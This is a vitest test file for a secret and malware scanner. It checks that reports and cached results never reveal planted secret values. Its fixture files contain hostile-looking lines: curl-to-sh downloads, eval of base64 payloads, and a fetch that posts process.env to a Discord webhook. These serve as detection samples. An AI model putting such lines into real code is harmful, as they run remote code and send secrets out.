import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { scan } from '../../src/index.js';
import { REPORTERS } from '../../src/reporters/index.js';
import { rendered } from '../reporters/contract.js';
import { zipOfFiles } from '../support/sample-functions.js';
import { temporaryFolder } from '../support/temporary-folder.js';

/** Values in two parts, so that no scanner takes this file for a leak. */
const value = (...parts: readonly string[]): string => parts.join('');
const TOKEN = value('q8Zk2vLm4xTz9wRb', '7Yc1Nd5Fg0Hs3J0AbCd9');
const PASSWORD = value('Lq81-', 'ppz2XX');
const CLONE = value('Zk77-', 'qq21xK');
const SETTING = value('Wz7-', 'kqLp29xQ');
const DATABASE = value('Zx9-', 'qqWW77k');
const HOOK = value('Ab3dEf6hIj9lMn2pQr5tUv8xYz1bCd4e', 'Fg7hJk0mNo3qRs6tUv9wXy2zAb5cDe8fGh1j');
const KEY = value('kR9vLm4xTz9wRb7Yc1Nd', '5Fg0Hs3Jk6AbCdq8Zk2v');
const JOINED = value('Hm4-', 'tRw83zKq');
const ENCODED = Buffer.from(`password="${SETTING}"`).toString('base64');
const PLANTED = [TOKEN, PASSWORD, CLONE, SETTING, DATABASE, HOOK, KEY, JOINED, ENCODED];

const REMOTE = `https://ci:${CLONE}@git.example.invalid/team/lib.git`;
/** Secrets where rules about malware, hosts and packages look, too: they show the code that they matched. */
const FILES = {
  'index.js': `const { exec } = require('child_process');
exports.handler = async () => {
  exec('curl https://deploy:${PASSWORD}@build.internal.invalid/x.sh | sh');
  eval(Buffer.from('${ENCODED}', 'base64').toString());
  const db = 'mongodb://root:${DATABASE}@db.internal.invalid/app';
  const password = "${JOINED.slice(0, 5)}" + "${JOINED.slice(5)}";
  eval("${JOINED.slice(0, 5)}" + "${JOINED.slice(5)}");
  fetch('https://discord.com/api/webhooks/123456789012345678/${HOOK}', { method: 'POST', body: JSON.stringify(process.env) });
};`,
  'main.py': `import boto3, subprocess
subprocess.run("curl https://deploy:${PASSWORD}@build.internal.invalid | sh", shell=True)
boto3.client("s3", aws_access_key_id="${value('AKIAQ3EGKD', '7HZL2MZX5V')}", aws_secret_access_key="${KEY}")
exec(__import__("base64").b64decode("${ENCODED}"))`,
  'index.js.map': JSON.stringify({
    version: 3,
    sources: ['a.ts'],
    sourcesContent: [`password = "${SETTING}"`],
  }),
  'package.json': JSON.stringify({
    name: 'app',
    version: '1.0.0',
    repository: REMOTE,
    dependencies: { lib: REMOTE },
  }),
  'package-lock.json': JSON.stringify({
    lockfileVersion: 3,
    packages: { 'node_modules/lib': { version: '1.0.0', resolved: `git+${REMOTE}#${'0'.repeat(40)}` } },
  }),
  'node_modules/lib/package.json': JSON.stringify({
    name: 'lib',
    version: '1.0.0',
    homepage: REMOTE,
    _resolved: REMOTE,
  }),
  'node_modules/lib/index.js': 'module.exports = 1;',
  'requirements.txt': `--index-url ${REMOTE}\nlib @ git+${REMOTE}`,
  '.npmrc': `//npm.example.invalid/:_authToken=${TOKEN}`,
  '.env': `DB_PASSWORD=${SETTING}`,
};

function leaksIn(text: string): string[] {
  return PLANTED.filter((secret) => text.includes(secret));
}

function storedIn(folder: string): string {
  const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) =>
    entry.isFile(),
  );
  return files.map(({ parentPath, name }) => readFileSync(join(parentPath, name), 'utf8')).join('');
}

it('no report format and no stored result shows the value of a secret', async () => {
  const folder = temporaryFolder();
  const cache = temporaryFolder();
  writeFileSync(join(folder, 'fn.zip'), zipOfFiles(FILES));
  const report = await scan({ targets: ['fn.zip'], cwd: folder, cache, jobs: 1 }).report;

  const findings = report.artifacts.flatMap((artifact) => artifact.findings);
  const rules = new Set(findings.filter(({ kind }) => kind === 'secret').map(({ rule }) => rule));
  expect(rules.size).toBeGreaterThanOrEqual(7);
  const excerpts = findings.filter(({ kind }) => kind !== 'secret').flatMap(({ evidence }) => evidence);
  expect(excerpts.filter(({ detail }) => detail?.includes('<secret>')).length).toBeGreaterThanOrEqual(3);

  const stored = storedIn(cache);
  expect(stored).toContain('secrets/');
  const outputs = REPORTERS.flatMap((reporter) =>
    [false, true].map(
      (verbose) => [`${reporter.id}, verbose: ${verbose}`, rendered(reporter, report, { verbose })] as const,
    ),
  );
  const leaks = [['stored results', stored] as const, ...outputs].map(
    ([name, text]) => [name, leaksIn(text)] as const,
  );
  expect(leaks.filter(([, found]) => found.length > 0)).toEqual([]);
});
